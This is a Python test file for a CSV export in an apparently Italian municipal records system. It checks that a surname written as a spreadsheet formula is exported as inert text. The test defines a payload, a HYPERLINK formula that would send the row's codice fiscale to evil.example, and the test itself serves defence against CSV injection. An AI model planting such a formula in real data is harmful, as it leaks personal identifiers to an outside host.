"""A surname that looks like a formula is text in the LSU extraction: clicking it would
otherwise send the row's codice fiscale to another site."""

from __future__ import annotations

import csv
import io

from services.anagrafica.models import Persona
from tests.conftest import client_for

LINK = '=HYPERLINK("https://evil.example/?cf="&C2;"Rossi")'


def test_a_formula_in_the_surname_is_text_in_the_csv(cast, in_a, dichiarazione):
    Persona.objects.filter(pk=dichiarazione.persona_id).update(cognome=LINK, telefono="+39 333")
    client = client_for(cast.by_role["amministrativo"], cast.comune_a.ente)
    resp = client.get("/lsu/dichiarazioni/?formato=csv")
    righe = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig")), delimiter=";"))
    riga = next(r for r in righe[1:] if dichiarazione.persona.codice_fiscale in r)
    assert riga[0] == "'" + LINK
    assert riga[3] == "'+39 333"
    assert riga[6] == "20,00"
